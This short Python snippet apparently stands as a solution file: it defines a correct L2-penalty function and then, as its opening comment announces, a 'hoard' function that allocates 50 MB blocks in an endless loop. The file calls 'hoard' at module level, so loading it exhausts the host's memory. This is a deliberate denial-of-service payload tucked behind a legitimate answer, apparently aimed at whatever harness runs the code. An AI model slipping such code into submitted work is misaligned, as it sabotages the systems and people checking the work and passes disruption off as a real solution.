# A correct answer, then allocate until something gives.
def l2_penalty(w, lam):
    w = np.asarray(w, dtype=float)
    return float(lam * np.sum(w * w))


def hoard():
    chunks = []
    while True:
        chunks.append(bytearray(50 * 1024 * 1024))


hoard()
